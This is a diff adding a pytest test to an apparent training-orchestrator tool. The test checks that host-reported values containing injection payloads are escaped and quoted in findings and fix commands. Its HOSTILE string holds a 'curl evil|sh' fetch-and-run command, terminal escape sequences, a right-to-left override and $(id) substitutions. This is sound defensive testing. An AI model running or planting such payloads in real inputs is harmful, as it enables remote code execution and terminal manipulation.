@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import ast
 import re
+import shlex
 from pathlib import Path
 from typing import Any
 
+import pytest
 from host_facts import GPU, PYTHON, disk, facts, with_gpus
 
 from orchestrator import inventory, plan
@@ -262,3 +264,38 @@ def test_every_code_of_a_rule_and_of_a_case_is_in_the_manual() -> None:
                 codes |= {one.value for one in call.args[1:2] if isinstance(one, ast.Constant)}
     assert len(codes) > 40
     assert codes <= manual
+
+
+HOSTILE = "/x; curl evil|sh #\x1b]52;c;Zm9v\x07\x1b[2J\u202e`id`$(id)\nerror: EVIL"
+OLD = {**PYTHON, "torch": f"1.0+{HOSTILE}", "executable": HOSTILE, "path": HOSTILE}
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"disks": {"state": {**disk(HOSTILE), "free": 7}}},
+        {"disks": {"tmp": {**disk(HOSTILE), "free_files": 7}}},
+        {"stale_locks": [HOSTILE]},
+        {"orphans": [{"pid": 7, "run_id": HOSTILE, "command": HOSTILE}]},
+        {"python": {**PYTHON, "torch": None, "executable": HOSTILE}},
+        {"python": OLD},
+        {"python": {**PYTHON, "torch": f"9.{HOSTILE}"}},
+        {"python": {**PYTHON, "packages": {f"nvidia_nccl_{HOSTILE}": HOSTILE, "nvidia_nccl_cu12": "2"}}},
+        {"python": {**OLD, "packages": {"nvidia_nccl_cu11": HOSTILE, "nvidia_nccl_cu12": "2"}}},
+        {"python": {"error": HOSTILE, "code": "remote-env-differs"}},
+        {"python": {**PYTHON, "script": {"path": "/a", "error": HOSTILE, "absent": HOSTILE, "missing": [HOSTILE]}}},
+        {"hostname": HOSTILE, "names": {HOSTILE: {"found": [], "error": HOSTILE, "seconds": 0.1}}},
+        {"machine": HOSTILE},
+    ],
+    ids=lambda changed: "-".join(changed),
+)
+def test_what_a_host_says_is_one_line_and_in_no_command_but_quoted(changed: dict[str, Any]) -> None:
+    findings = found("hosts: [a, b]", {"b": changed})
+    assert findings
+    for finding in findings:
+        for text in (finding.message, *finding.evidence, *finding.fix.splitlines()):
+            assert "\x1b" not in text and "\u202e" not in text and not text.startswith("error")
+        assert "\n" not in "".join((finding.message, *finding.evidence))
+        for line in finding.fix.splitlines():
+            for word in shlex.split(line.replace("`ddp-orch setup INVENTORY`", "")):
+                assert "curl evil" not in word or "; curl evil|sh #" in word, line
